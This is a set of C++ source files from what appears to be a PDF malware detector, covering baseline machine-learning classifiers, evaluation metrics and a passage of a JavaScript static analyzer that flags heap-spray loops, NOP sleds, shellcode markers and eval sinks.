// One-class model (hypersphere around the target-class centroid in
// standardized feature space) — the OCSVM stand-in behind the PJScan-style
// lexical baseline [7], which trains on malicious samples only.
#pragma once

#include "ml/dataset.hpp"

namespace pdfshield::ml {

class OneClassCentroid {
 public:
  struct Config {
    /// Radius = mean distance + k * stddev of training distances.
    double radius_sigmas = 2.0;
  };

  OneClassCentroid();
  explicit OneClassCentroid(Config config);

  /// Trains on target-class vectors only (labels ignored).
  void train(const std::vector<FeatureVector>& target);

  /// Distance from the centroid (standardized space).
  double distance(const FeatureVector& x) const;

  /// 1 when `x` falls inside the learned sphere (i.e. looks like the
  /// target class).
  int predict(const FeatureVector& x) const {
    return distance(x) <= radius_ ? 1 : 0;
  }

  double radius() const { return radius_; }

 private:
  Config config_;
  std::vector<double> centroid_;
  std::vector<double> scale_;
  double radius_ = 0.0;
};


inline OneClassCentroid::OneClassCentroid() : OneClassCentroid(Config()) {}
inline OneClassCentroid::OneClassCentroid(Config config) : config_(config) {}

}  // namespace pdfshield::ml
