#include "ml/random_forest.hpp"

#include <cmath>

namespace pdfshield::ml {

void RandomForest::train(const Dataset& data, support::Rng& rng) {
  trees_.clear();
  if (data.size() == 0) return;

  DecisionTree::Config tree_config = config_.tree;
  if (tree_config.feature_subsample == 0) {
    // sqrt(d) features per split, the usual forest default.
    tree_config.feature_subsample = static_cast<std::size_t>(
        std::max(1.0, std::sqrt(static_cast<double>(data.feature_count()))));
  }

  const std::size_t sample_n = static_cast<std::size_t>(
      config_.sample_fraction * static_cast<double>(data.size()));
  for (int t = 0; t < config_.n_trees; ++t) {
    Dataset bootstrap;
    for (std::size_t i = 0; i < sample_n; ++i) {
      const std::size_t pick = static_cast<std::size_t>(rng.below(data.size()));
      bootstrap.add(data.x[pick], data.y[pick]);
    }
    DecisionTree tree(tree_config);
    tree.train(bootstrap, rng);
    trees_.push_back(std::move(tree));
  }
}

double RandomForest::predict_proba(const FeatureVector& x) const {
  if (trees_.empty()) return 0.0;
  double sum = 0.0;
  for (const DecisionTree& tree : trees_) sum += tree.predict_proba(x);
  return sum / static_cast<double>(trees_.size());
}

}  // namespace pdfshield::ml
