#include "ml/naive_bayes.hpp"

#include <cmath>

namespace pdfshield::ml {

void NaiveBayes::train(const Dataset& data) {
  features_ = data.feature_count();
  std::size_t class_count[2] = {0, 0};
  std::vector<double> present[2];
  present[0].assign(features_, 0.0);
  present[1].assign(features_, 0.0);

  for (std::size_t i = 0; i < data.size(); ++i) {
    const int c = data.y[i] ? 1 : 0;
    ++class_count[c];
    for (std::size_t j = 0; j < features_; ++j) {
      if (data.x[i][j] > config_.presence_threshold) present[c][j] += 1.0;
    }
  }

  const double total = static_cast<double>(data.size());
  for (int c = 0; c < 2; ++c) {
    log_prior_[c] = std::log((static_cast<double>(class_count[c]) + 1.0) /
                             (total + 2.0));
    log_p_present_[c].resize(features_);
    log_p_absent_[c].resize(features_);
    const double denom =
        static_cast<double>(class_count[c]) + 2.0 * config_.smoothing;
    for (std::size_t j = 0; j < features_; ++j) {
      const double p = (present[c][j] + config_.smoothing) / denom;
      log_p_present_[c][j] = std::log(p);
      log_p_absent_[c][j] = std::log(1.0 - p);
    }
  }
}

double NaiveBayes::log_odds(const FeatureVector& x) const {
  double score[2] = {log_prior_[0], log_prior_[1]};
  for (std::size_t j = 0; j < features_ && j < x.size(); ++j) {
    const bool on = x[j] > config_.presence_threshold;
    for (int c = 0; c < 2; ++c) {
      score[c] += on ? log_p_present_[c][j] : log_p_absent_[c][j];
    }
  }
  return score[1] - score[0];
}

}  // namespace pdfshield::ml
