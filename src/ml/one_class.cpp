#include "ml/one_class.hpp"

#include <cmath>

namespace pdfshield::ml {

void OneClassCentroid::train(const std::vector<FeatureVector>& target) {
  if (target.empty()) {
    centroid_.clear();
    radius_ = 0.0;
    return;
  }
  const std::size_t d = target[0].size();
  centroid_.assign(d, 0.0);
  for (const auto& x : target) {
    for (std::size_t j = 0; j < d; ++j) centroid_[j] += x[j];
  }
  for (double& c : centroid_) c /= static_cast<double>(target.size());

  // Per-dimension scale so no single feature dominates the distance.
  scale_.assign(d, 0.0);
  for (const auto& x : target) {
    for (std::size_t j = 0; j < d; ++j) {
      const double delta = x[j] - centroid_[j];
      scale_[j] += delta * delta;
    }
  }
  for (double& s : scale_) {
    s = std::sqrt(s / static_cast<double>(target.size()));
    if (s < 1e-9) s = 1.0;
  }

  // Radius from the training distance distribution.
  double mean = 0.0, m2 = 0.0;
  std::size_t n = 0;
  for (const auto& x : target) {
    const double dist = distance(x);
    ++n;
    const double delta = dist - mean;
    mean += delta / static_cast<double>(n);
    m2 += delta * (dist - mean);
  }
  const double stddev = n > 1 ? std::sqrt(m2 / static_cast<double>(n - 1)) : 0.0;
  radius_ = mean + config_.radius_sigmas * stddev;
}

double OneClassCentroid::distance(const FeatureVector& x) const {
  double sum = 0.0;
  for (std::size_t j = 0; j < centroid_.size(); ++j) {
    const double v = j < x.size() ? x[j] : 0.0;
    const double delta = (v - centroid_[j]) / scale_[j];
    sum += delta * delta;
  }
  return std::sqrt(sum);
}

}  // namespace pdfshield::ml
