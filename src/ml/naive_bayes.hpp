// Bernoulli naive Bayes over thresholded features — the classifier behind
// the Markov-n-gram-style baseline [17] and Malware Slayer-style keyword
// frequency detection [6].
#pragma once

#include "ml/dataset.hpp"

namespace pdfshield::ml {

class NaiveBayes {
 public:
  struct Config {
    double smoothing = 1.0;         ///< Laplace smoothing.
    double presence_threshold = 0;  ///< feature > threshold counts as present
  };

  NaiveBayes();
  explicit NaiveBayes(Config config);

  void train(const Dataset& data);
  /// Log-odds of the malicious class.
  double log_odds(const FeatureVector& x) const;
  int predict(const FeatureVector& x) const { return log_odds(x) >= 0 ? 1 : 0; }

 private:
  Config config_;
  std::vector<double> log_p_present_[2];  ///< per class
  std::vector<double> log_p_absent_[2];
  double log_prior_[2] = {0, 0};
  std::size_t features_ = 0;
};


inline NaiveBayes::NaiveBayes() : NaiveBayes(Config()) {}
inline NaiveBayes::NaiveBayes(Config config) : config_(config) {}

}  // namespace pdfshield::ml
