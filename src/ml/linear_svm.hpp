// Linear soft-margin SVM trained with Pegasos-style stochastic subgradient
// descent on the hinge loss. Used by the structural-path baseline [5],
// which reported SVM among its best classifiers.
#pragma once

#include "ml/dataset.hpp"

namespace pdfshield::ml {

class LinearSvm {
 public:
  struct Config {
    int epochs = 40;
    double lambda = 1e-4;  ///< L2 regularization strength
  };

  LinearSvm();
  explicit LinearSvm(Config config);

  /// Trains on labels {0,1} (internally mapped to ±1).
  void train(const Dataset& data, support::Rng& rng);

  /// Signed distance to the separating hyperplane.
  double decision(const FeatureVector& x) const;

  /// 1 = malicious.
  int predict(const FeatureVector& x) const { return decision(x) >= 0 ? 1 : 0; }

  const std::vector<double>& weights() const { return w_; }
  double bias() const { return b_; }

 private:
  Config config_;
  std::vector<double> w_;
  double b_ = 0.0;
};


inline LinearSvm::LinearSvm() : LinearSvm(Config()) {}
inline LinearSvm::LinearSvm(Config config) : config_(config) {}

}  // namespace pdfshield::ml
