// Dataset vocabulary for the baseline classifiers (Table IX): dense
// feature vectors with binary labels (1 = malicious).
#pragma once

#include <cstddef>
#include <vector>

#include "support/error.hpp"
#include "support/rng.hpp"

namespace pdfshield::ml {

using FeatureVector = std::vector<double>;

struct Dataset {
  std::vector<FeatureVector> x;
  std::vector<int> y;  ///< 0 = benign, 1 = malicious

  std::size_t size() const { return x.size(); }
  std::size_t feature_count() const { return x.empty() ? 0 : x[0].size(); }

  void add(FeatureVector features, int label) {
    if (!x.empty() && features.size() != x[0].size()) {
      throw support::LogicError("dataset feature arity mismatch");
    }
    x.push_back(std::move(features));
    y.push_back(label);
  }
};

/// Shuffles and splits into train/test by `train_fraction`.
struct Split {
  Dataset train;
  Dataset test;
};
Split train_test_split(const Dataset& data, double train_fraction,
                       support::Rng& rng);

/// Per-feature standardization (zero mean, unit variance) fitted on one
/// dataset and applied to others.
class Standardizer {
 public:
  void fit(const Dataset& data);
  FeatureVector transform(const FeatureVector& x) const;
  Dataset transform(const Dataset& data) const;

 private:
  std::vector<double> mean_;
  std::vector<double> stddev_;
};

}  // namespace pdfshield::ml
