// Bagged random forest over CART trees — the classifier family PDFRate [4]
// uses over its metadata/structural features.
#pragma once

#include "ml/decision_tree.hpp"

namespace pdfshield::ml {

class RandomForest {
 public:
  struct Config {
    int n_trees = 25;
    DecisionTree::Config tree;
    /// Bootstrap sample fraction per tree.
    double sample_fraction = 1.0;
  };

  RandomForest();
  explicit RandomForest(Config config);

  void train(const Dataset& data, support::Rng& rng);
  double predict_proba(const FeatureVector& x) const;
  int predict(const FeatureVector& x) const {
    return predict_proba(x) >= 0.5 ? 1 : 0;
  }

  std::size_t tree_count() const { return trees_.size(); }

 private:
  Config config_;
  std::vector<DecisionTree> trees_;
};


inline RandomForest::RandomForest() : RandomForest(Config()) {}
inline RandomForest::RandomForest(Config config) : config_(config) {}

}  // namespace pdfshield::ml
