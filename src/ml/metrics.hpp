// Binary-classification metrics as reported in Table IX (false positive
// rate / true positive rate).
#pragma once

#include <functional>
#include <string>

#include "ml/dataset.hpp"

namespace pdfshield::ml {

struct Metrics {
  std::size_t tp = 0, fp = 0, tn = 0, fn = 0;

  double accuracy() const {
    const std::size_t total = tp + fp + tn + fn;
    return total ? static_cast<double>(tp + tn) / static_cast<double>(total) : 0;
  }
  /// True positive rate (detection rate).
  double tpr() const {
    return (tp + fn) ? static_cast<double>(tp) / static_cast<double>(tp + fn) : 0;
  }
  /// False positive rate.
  double fpr() const {
    return (fp + tn) ? static_cast<double>(fp) / static_cast<double>(fp + tn) : 0;
  }
  double precision() const {
    return (tp + fp) ? static_cast<double>(tp) / static_cast<double>(tp + fp) : 0;
  }
  double f1() const {
    const double p = precision(), r = tpr();
    return (p + r) > 0 ? 2 * p * r / (p + r) : 0;
  }
  std::string summary() const;
};

/// Evaluates a predict function (x -> 0/1) over a dataset.
Metrics evaluate(const std::function<int(const FeatureVector&)>& predict,
                 const Dataset& data);

}  // namespace pdfshield::ml
