#include "ml/metrics.hpp"

#include "support/strings.hpp"

namespace pdfshield::ml {

std::string Metrics::summary() const {
  return "tpr=" + support::format_double(tpr(), 4) +
         " fpr=" + support::format_double(fpr(), 4) +
         " acc=" + support::format_double(accuracy(), 4);
}

Metrics evaluate(const std::function<int(const FeatureVector&)>& predict,
                 const Dataset& data) {
  Metrics m;
  for (std::size_t i = 0; i < data.size(); ++i) {
    const int guess = predict(data.x[i]);
    if (data.y[i] == 1) {
      guess == 1 ? ++m.tp : ++m.fn;
    } else {
      guess == 1 ? ++m.fp : ++m.tn;
    }
  }
  return m;
}

}  // namespace pdfshield::ml
