#include "jsstatic/analyzer.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <cstdint>
#include <cstdlib>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "js/ast.hpp"
#include "js/interp.hpp"
#include "js/parser.hpp"
#include "js/stringops.hpp"
#include "js/walk.hpp"
#include "jsstatic/indicators.hpp"
#include "reader/shellcode.hpp"
#include "support/error.hpp"

namespace pdfshield::jsstatic {

namespace {

using js::Expr;
using js::ExprKind;
using js::Stmt;
using js::StmtKind;
using js::Value;

// ---------------------------------------------------------------------------
// Abstract values
// ---------------------------------------------------------------------------

struct ArrayState;
using ArrayPtr = std::shared_ptr<ArrayState>;

/// Constant-lattice element. Known scalars are held as real js::Value
/// instances so folds can reuse js::Interpreter's static conversions and
/// agree with runtime evaluation exactly. Arrays have reference semantics
/// (shared_ptr) mirroring JS aliasing: poisoning the state is visible
/// through every alias. kBuiltin tracks references to pure global
/// builtins (and `eval`) so aliased calls like `var e = eval; e(s)` still
/// dispatch — and register sinks — correctly.
struct AV {
  enum class Kind { kTop, kScalar, kArray, kBuiltin };
  Kind kind = Kind::kTop;
  Value scalar;
  ArrayPtr array;
  std::string builtin;  ///< e.g. "eval", "Math.floor", "String.fromCharCode"

  static AV top() { return AV{}; }
  static AV of(Value v) {
    AV a;
    a.kind = Kind::kScalar;
    a.scalar = std::move(v);
    return a;
  }
  static AV of_array(ArrayPtr arr) {
    AV a;
    a.kind = Kind::kArray;
    a.array = std::move(arr);
    return a;
  }
  static AV of_builtin(std::string name) {
    AV a;
    a.kind = Kind::kBuiltin;
    a.builtin = std::move(name);
    return a;
  }

  bool is_top() const { return kind == Kind::kTop; }
  bool is_scalar() const { return kind == Kind::kScalar; }
  bool is_array() const { return kind == Kind::kArray; }
  bool is_builtin() const { return kind == Kind::kBuiltin; }
  bool is_string() const { return is_scalar() && scalar.is_string(); }
};

struct ArrayState {
  std::vector<AV> elems;
  /// An unmodelled mutation happened (sort, unknown call receiving the
  /// array, unknown-key property write): every read degrades to Top.
  bool poisoned = false;
};

/// Thrown when Caps::max_node_visits fires; caught at the per-script
/// top level where it sets Report::truncated.
struct BudgetExhausted {};

/// Statement-level control flow (mirrors the interpreter's signals).
enum class Flow { kNormal, kBreak, kContinue, kReturn };

bool is_global_builtin(const std::string& name) {
  static const char* const kNames[] = {
      "eval",   "unescape", "escape", "parseInt", "parseFloat",
      "isNaN",  "String",   "Number", "Boolean",  "Array",
      "Math",
  };
  for (const char* n : kNames) {
    if (name == n) return true;
  }
  return false;
}

bool is_array_mutator(const std::string& name) {
  return name == "push" || name == "pop" || name == "shift" ||
         name == "unshift" || name == "splice" || name == "reverse" ||
         name == "sort";
}

/// Mirrors builtins.cpp clamp_index exactly.
std::int64_t clamp_index(double raw, std::size_t len) {
  if (std::isnan(raw)) return 0;
  std::int64_t i = static_cast<std::int64_t>(raw);
  if (i < 0) i += static_cast<std::int64_t>(len);
  if (i < 0) i = 0;
  if (i > static_cast<std::int64_t>(len)) i = static_cast<std::int64_t>(len);
  return i;
}

/// Mirrors the numeric-index test in Interpreter::string_member /
/// array_member: strtol consumes the whole key and it starts with a digit.
std::optional<long> numeric_key(const std::string& key) {
  if (key.empty() || !std::isdigit(static_cast<unsigned char>(key[0]))) {
    return std::nullopt;
  }
  char* end = nullptr;
  const long idx = std::strtol(key.c_str(), &end, 10);
  if (end == nullptr || *end != '\0') return std::nullopt;
  return idx;
}

std::int32_t to_int32(double d) {
  if (std::isnan(d) || std::isinf(d)) return 0;
  return static_cast<std::int32_t>(static_cast<std::int64_t>(d));
}

std::uint32_t to_uint32(double d) {
  if (std::isnan(d) || std::isinf(d)) return 0;
  return static_cast<std::uint32_t>(static_cast<std::int64_t>(d));
}

// ---------------------------------------------------------------------------
// Analyzer
// ---------------------------------------------------------------------------

class Analyzer {
 public:
  Analyzer(const Caps& caps, Report& rep) : caps_(caps), rep_(rep) {}

  void run(std::string_view source) {
    rep_.parse_ok = true;  // until proven otherwise
    analyze_source(std::string(source), /*eval_depth=*/0);
  }

 private:
  // -- entry per (sub)program -----------------------------------------------

  void analyze_source(const std::string& source, std::size_t eval_depth) {
    std::shared_ptr<js::Program> prog;
    try {
      prog = js::parse_js(source);
    } catch (const support::Error& e) {
      rep_.parse_ok = false;
      if (rep_.parse_error.empty()) rep_.parse_error = e.what();
      return;
    }
    ++rep_.scripts;
    rep_.max_eval_depth_seen = std::max(rep_.max_eval_depth_seen, eval_depth);
    syntactic_pass(*prog, source);
    const std::size_t saved_depth = eval_depth_;
    eval_depth_ = eval_depth;
    try {
      exec_program(*prog);
    } catch (const BudgetExhausted&) {
      rep_.truncated = true;
    }
    eval_depth_ = saved_depth;
  }

  void exec_program(const js::Program& prog) {
    for (const js::StmtPtr& s : prog.body) {
      if (!s) continue;
      if (exec(*s) == Flow::kReturn) break;  // top-level throw aborts script
    }
  }

  // -- syntactic pass: indicators that must see dead code too ---------------

  void syntactic_pass(const js::Program& prog, const std::string& source) {
    rep_.escape_density =
        std::max(rep_.escape_density, escape_sequence_density(source));
    if (!rep_.nop_sled && has_nop_sled(source)) rep_.nop_sled = true;
    std::set<std::string> identifiers;
    js::walk_program(
        prog,
        [&](const Expr& e) {
          switch (e.kind) {
            case ExprKind::kIdentifier:
              identifiers.insert(e.string_value);
              break;
            case ExprKind::kString:
              note_string(e.string_value);
              break;
            case ExprKind::kMember:
              if (!e.computed_member && is_suspicious_api(e.string_value)) {
                ++rep_.suspicious_apis[e.string_value];
              }
              break;
            default:
              break;
          }
        },
        [&](const Stmt& s) { check_growth_loop(s); });
    std::string joined;
    for (const std::string& id : identifiers) joined += id;
    rep_.identifier_entropy =
        std::max(rep_.identifier_entropy, shannon_entropy(joined));
    rep_.obfuscation_score = std::max(
        rep_.obfuscation_score,
        0.4 * std::min(1.0, rep_.identifier_entropy / 5.0) +
            0.6 * std::min(1.0, rep_.escape_density * 4.0));
  }

  /// Heap-spray shape: a while/do/for loop bounded by `X.length < N`
  /// (N a literal or literal product) whose body grows X via `X += ...`,
  /// `X = X + ...` or `X.push(...)`. Flags when N reaches Caps::spray_bytes.
  void check_growth_loop(const Stmt& s) {
    const Expr* cond = nullptr;
    if (s.kind == StmtKind::kWhile || s.kind == StmtKind::kDoWhile) {
      cond = s.expr.get();
    } else if (s.kind == StmtKind::kFor) {
      cond = s.expr2.get();
    } else {
      return;
    }
    if (!cond || cond->kind != ExprKind::kBinary ||
        (cond->op != "<" && cond->op != "<=")) {
      return;
    }
    const Expr* lhs = cond->a.get();
    if (!lhs || lhs->kind != ExprKind::kMember || lhs->computed_member ||
        lhs->string_value != "length" || !lhs->a ||
        lhs->a->kind != ExprKind::kIdentifier) {
      return;
    }
    const std::optional<double> bound = literal_number(*cond->b);
    if (!bound || !(*bound > 0)) return;
    const std::string& grown = lhs->a->string_value;
    bool grows = false;
    for (const js::StmtPtr& body : s.body) {
      if (!body) continue;
      js::walk_stmt(
          *body,
          [&](const Expr& e) {
            if (e.kind == ExprKind::kAssign && e.a &&
                e.a->kind == ExprKind::kIdentifier &&
                e.a->string_value == grown) {
              if (e.op == "+=") grows = true;
              if (e.op == "=" && e.b && e.b->kind == ExprKind::kBinary &&
                  e.b->op == "+") {
                js::walk_expr(
                    *e.b,
                    [&](const Expr& sub) {
                      if (sub.kind == ExprKind::kIdentifier &&
                          sub.string_value == grown) {
                        grows = true;
                      }
                    },
                    [](const Stmt&) {});
              }
            }
            if (e.kind == ExprKind::kCall && e.a &&
                e.a->kind == ExprKind::kMember && !e.a->computed_member &&
                e.a->string_value == "push" && e.a->a &&
                e.a->a->kind == ExprKind::kIdentifier &&
                e.a->a->string_value == grown) {
              grows = true;
            }
          },
          [](const Stmt&) {});
      if (grows) break;
    }
    if (!grows) return;
    const auto target = static_cast<std::size_t>(*bound);
    rep_.spray_target_bytes = std::max(rep_.spray_target_bytes, target);
    if (target >= caps_.spray_bytes) rep_.heap_spray_loop = true;
  }

  /// Literal number, or a product/sum of literals (`1024 * 1024`).
  static std::optional<double> literal_number(const Expr& e) {
    if (e.kind == ExprKind::kNumber) return e.number;
    if (e.kind == ExprKind::kBinary && e.a && e.b) {
      const std::optional<double> l = literal_number(*e.a);
      const std::optional<double> r = literal_number(*e.b);
      if (l && r) {
        if (e.op == "*") return *l * *r;
        if (e.op == "+") return *l + *r;
        if (e.op == "-") return *l - *r;
      }
    }
    return std::nullopt;
  }

  // -- indicator bookkeeping ------------------------------------------------

  void note_string(const std::string& s) {
    rep_.longest_string = std::max(rep_.longest_string, s.size());
    if (loop_depth_ > 0 && s.size() >= caps_.spray_bytes) {
      rep_.heap_spray_loop = true;
      rep_.spray_target_bytes = std::max(rep_.spray_target_bytes, s.size());
    }
    if (!rep_.nop_sled && has_nop_sled(s)) rep_.nop_sled = true;
    if (!rep_.shellcode && s.find("SC{") != std::string::npos &&
        reader::extract_shellcode(s).has_value()) {
      rep_.shellcode = true;
    }
  }

  /// Funnel for every string the folder produces: enforces the per-string
  /// and cumulative byte caps and feeds the indicators.
  AV fold_string(std::string s) {
    if (s.size() > caps_.max_string_bytes) {
      rep_.truncated = true;
      return AV::top();
    }
    total_bytes_ += s.size();
    if (total_bytes_ > caps_.max_total_bytes) {
      rep_.truncated = true;
      return AV::top();
    }
    note_string(s);
    // A spray-sized string materializing inside a loop has already done its
    // job: note_string just set heap_spray_loop and longest_string. Folding
    // it further costs O(target) copying per iteration (850 KB - 6.6 MB
    // targets, allocated via mmap, dominate analysis time) and can never
    // reach a proven-clean value, so degrade to non-constant and let the
    // now-unknown loop condition bail the loop.
    if (loop_depth_ > 0 && s.size() >= caps_.spray_bytes) {
      rep_.truncated = true;
      return AV::top();
    }
    return AV::of(Value(std::move(s)));
  }

  void visit() {
    if (++rep_.node_visits > caps_.max_node_visits) throw BudgetExhausted{};
  }

  // -- conversions (exact mirrors of the runtime's) -------------------------

  std::optional<std::string> to_string(const AV& v) {
    if (v.is_scalar()) {
      const Value& s = v.scalar;
      if (s.is_string()) return s.as_string();
      if (s.is_undefined()) return std::string("undefined");
      if (s.is_null()) return std::string("null");
      if (s.is_bool()) return std::string(s.as_bool() ? "true" : "false");
      if (s.is_number()) return js::number_to_js_string(s.as_number());
      return std::nullopt;
    }
    if (v.is_array() && !v.array->poisoned) {
      // Mirrors to_js_string for arrays: comma-join, nullish -> empty.
      std::string out;
      for (std::size_t i = 0; i < v.array->elems.size(); ++i) {
        if (i) out += ',';
        const AV& e = v.array->elems[i];
        if (e.is_scalar() && e.scalar.is_nullish()) continue;
        const std::optional<std::string> es = to_string(e);
        if (!es) return std::nullopt;
        out += *es;
      }
      return out;
    }
    return std::nullopt;  // Top, poisoned array, builtin function
  }

  std::optional<double> to_number(const AV& v) {
    if (v.is_scalar()) return js::Interpreter::to_number(v.scalar);
    if (v.is_array() || v.is_builtin()) {
      return std::nan("");  // objects -> NaN, exactly like the runtime
    }
    return std::nullopt;
  }

  std::optional<bool> to_boolean(const AV& v) {
    if (v.is_scalar()) return js::Interpreter::to_boolean(v.scalar);
    if (v.is_array() || v.is_builtin()) return true;  // objects are truthy
    return std::nullopt;
  }

  std::optional<bool> strict_equals(const AV& l, const AV& r) {
    if (l.is_scalar() && r.is_scalar()) {
      return js::Interpreter::strict_equals(l.scalar, r.scalar);
    }
    if (l.is_array() && r.is_array()) return l.array == r.array;
    if (l.is_top() || r.is_top()) return std::nullopt;
    // Mixed known kinds (array vs scalar vs builtin): different variants.
    if (l.is_builtin() || r.is_builtin()) return std::nullopt;  // fn identity
    return false;
  }

  /// Mirrors Interpreter::loose_equals.
  std::optional<bool> loose_equals(const AV& l, const AV& r) {
    if (l.is_top() || r.is_top() || l.is_builtin() || r.is_builtin()) {
      return std::nullopt;
    }
    if (l.is_scalar() && r.is_scalar()) {
      const Value& a = l.scalar;
      const Value& b = r.scalar;
      if (a.repr().index() == b.repr().index()) {
        return js::Interpreter::strict_equals(a, b);
      }
      if (a.is_nullish() && b.is_nullish()) return true;
      if (a.is_nullish() || b.is_nullish()) return false;
      return js::Interpreter::to_number(a) == js::Interpreter::to_number(b);
    }
    if (l.is_array() && r.is_array()) return l.array == r.array;
    // Object vs primitive: compared via string images.
    const AV& arr = l.is_array() ? l : r;
    const AV& prim = l.is_array() ? r : l;
    if (prim.is_scalar() && prim.scalar.is_nullish()) return false;
    const std::optional<std::string> as = to_string(arr);
    const std::optional<std::string> ps = to_string(prim);
    if (!as || !ps) return std::nullopt;
    return *as == *ps;
  }

  // -- environment ----------------------------------------------------------

  AV lookup(const std::string& name) {
    if (opaque_ > 0) return AV::top();
    auto it = env_.find(name);
    if (it != env_.end()) return it->second;
    // Unbound names: mirror the builtin globals the runtime installs;
    // anything else (host APIs, cross-script state) is Top.
    if (name == "NaN") return AV::of(Value(std::nan("")));
    if (name == "Infinity") return AV::of(Value(HUGE_VAL));
    if (is_global_builtin(name)) return AV::of_builtin(name);
    return AV::top();
  }

  void bind(const std::string& name, AV v) {
    env_[name] = poisoned_ > 0 ? AV::top() : std::move(v);
  }

  // -- poisoning machinery --------------------------------------------------

  struct PoisonGuard {
    explicit PoisonGuard(Analyzer& a) : a_(a) { ++a_.poisoned_; }
    ~PoisonGuard() { --a_.poisoned_; }
    Analyzer& a_;
  };
  struct OpaqueGuard {
    explicit OpaqueGuard(Analyzer& a) : a_(a) {
      ++a_.poisoned_;
      ++a_.opaque_;
    }
    ~OpaqueGuard() {
      --a_.poisoned_;
      --a_.opaque_;
    }
    Analyzer& a_;
  };

  /// Drops every binding a region could write, and poisons the state of
  /// every array it could mutate — used before walking regions that may
  /// execute more than once (bailed loop bodies) or at unknown times
  /// (function bodies), where walk order no longer matches any single
  /// runtime execution.
  void poison_region_targets(const Stmt& s) {
    std::set<std::string> names;
    collect_assigned(
        s, names, [&](const std::string& base) { poison_array_named(base); });
    for (const std::string& n : names) poison_name(n);
  }
  void poison_region_targets(const Expr& e) {
    std::set<std::string> names;
    js::walk_expr(
        e,
        [&](const Expr& sub) {
          collect_assigned_expr(sub, names, [&](const std::string& base) {
            poison_array_named(base);
          });
        },
        [&](const Stmt& sub) { collect_assigned_shallow(sub, names); });
    for (const std::string& n : names) poison_name(n);
  }

  void poison_name(const std::string& name) {
    auto it = env_.find(name);
    if (it != env_.end() && it->second.is_array()) {
      it->second.array->poisoned = true;  // aliases observe the mutation
    }
    env_[name] = AV::top();
  }

  void poison_array_named(const std::string& name) {
    auto it = env_.find(name);
    if (it != env_.end() && it->second.is_array()) {
      it->second.array->poisoned = true;
    }
  }

  template <typename ArrayFn>
  void collect_assigned(const Stmt& s, std::set<std::string>& names,
                        ArrayFn&& on_array) {
    js::walk_stmt(
        s,
        [&](const Expr& e) { collect_assigned_expr(e, names, on_array); },
        [&](const Stmt& sub) { collect_assigned_shallow(sub, names); });
  }

  static void collect_assigned_shallow(const Stmt& s,
                                       std::set<std::string>& names) {
    switch (s.kind) {
      case StmtKind::kVarDecl:
        for (const js::VarDeclarator& d : s.decls) names.insert(d.name);
        break;
      case StmtKind::kFunctionDecl:
        if (s.function) names.insert(s.function->name);
        break;
      case StmtKind::kForIn:
        names.insert(s.for_in_var);
        break;
      case StmtKind::kTry:
        if (s.has_catch && !s.catch_param.empty()) names.insert(s.catch_param);
        break;
      default:
        break;
    }
  }

  template <typename ArrayFn>
  void collect_assigned_expr(const Expr& e, std::set<std::string>& names,
                             ArrayFn&& on_array) {
    if (e.kind == ExprKind::kAssign || e.kind == ExprKind::kUpdate) {
      const Expr* target = e.a.get();
      if (target && target->kind == ExprKind::kIdentifier) {
        names.insert(target->string_value);
      } else if (target && target->kind == ExprKind::kMember && target->a &&
                 target->a->kind == ExprKind::kIdentifier) {
        on_array(target->a->string_value);
      }
    }
    if (e.kind == ExprKind::kCall && e.a && e.a->kind == ExprKind::kMember &&
        !e.a->computed_member && is_array_mutator(e.a->string_value) &&
        e.a->a && e.a->a->kind == ExprKind::kIdentifier) {
      on_array(e.a->a->string_value);
    }
  }

  /// Any unknown call may invoke a user function; every name any function
  /// body assigns (and every array it mutates) becomes unknown.
  void poison_function_effects() {
    for (const std::string& n : function_mutated_arrays_) {
      poison_array_named(n);
    }
    for (const std::string& n : function_assigned_names_) poison_name(n);
  }

  /// Registers a function body: records its write effects for
  /// poison_function_effects() and walks it with fully-opaque reads
  /// (call time is unknown, so no binding can be trusted inside).
  void register_function(const js::FunctionNode& fn) {
    for (const js::StmtPtr& s : fn.body) {
      if (!s) continue;
      collect_assigned(*s, function_assigned_names_,
                       [&](const std::string& base) {
                         function_mutated_arrays_.insert(base);
                       });
    }
    OpaqueGuard guard(*this);
    for (const std::string& p : fn.params) bind(p, AV::top());
    for (const js::StmtPtr& s : fn.body) {
      if (s) exec(*s);
    }
  }

  // -- sinks ----------------------------------------------------------------

  SinkSite& sink_site(const char* kind, std::size_t offset) {
    for (SinkSite& s : rep_.sinks) {
      if (s.offset == offset && s.eval_depth == eval_depth_ && s.kind == kind) {
        return s;
      }
    }
    SinkSite site;
    site.kind = kind;
    site.offset = offset;
    site.eval_depth = eval_depth_;
    rep_.sinks.push_back(std::move(site));
    return rep_.sinks.back();
  }

  void record_payload(const char* kind, std::size_t offset,
                      const std::string& payload, bool delayed) {
    bool fresh = false;
    {
      SinkSite& site = sink_site(kind, offset);
      const auto it =
          std::find(site.resolved.begin(), site.resolved.end(), payload);
      if (it == site.resolved.end()) {
        if (site.resolved.size() >= caps_.max_resolved_per_sink) {
          site.non_constant = true;  // can't enumerate; degrade loudly
          rep_.truncated = true;
          return;
        }
        site.resolved.push_back(payload);
        fresh = true;
      }
    }  // reference dies before sinks can reallocate below
    if (!fresh) return;
    if (eval_depth_ + 1 > caps_.max_eval_depth) {
      rep_.truncated = true;
      sink_site(kind, offset).non_constant = true;
      return;
    }
    if (delayed) {
      // Delayed payloads run after the current script in a drained queue;
      // the environment at that point is unknown, so analyze opaquely.
      OpaqueGuard guard(*this);
      analyze_source(payload, eval_depth_ + 1);
    } else {
      // eval() is synchronous in the current scope: keep the environment
      // and the current precision mode.
      analyze_source(payload, eval_depth_ + 1);
    }
  }

  /// eval(x): the runtime only evaluates string arguments (others are
  /// returned untouched), so a known non-string is proven sink-silent.
  AV sink_eval(std::size_t offset, const AV& arg) {
    if (arg.is_string()) {
      record_payload("eval", offset, arg.scalar.as_string(), false);
      return AV::top();  // payload's completion value is not modelled
    }
    if (arg.is_top()) {
      sink_site("eval", offset).non_constant = true;
      return AV::top();
    }
    return arg;  // known non-string: eval returns its argument
  }

  /// setTimeOut / setInterval / addScript stringify their payload with
  /// to_js_string before queueing it.
  AV sink_delayed(const char* kind, std::size_t offset, const AV& arg) {
    const std::optional<std::string> payload = to_string(arg);
    if (payload) {
      record_payload(kind, offset, *payload, true);
    } else {
      sink_site(kind, offset).non_constant = true;
    }
    return AV::top();
  }

  // -- statements -----------------------------------------------------------

  Flow exec(const Stmt& s) {
    visit();
    switch (s.kind) {
      case StmtKind::kEmpty:
        return Flow::kNormal;
      case StmtKind::kExpr:
        eval(*s.expr);
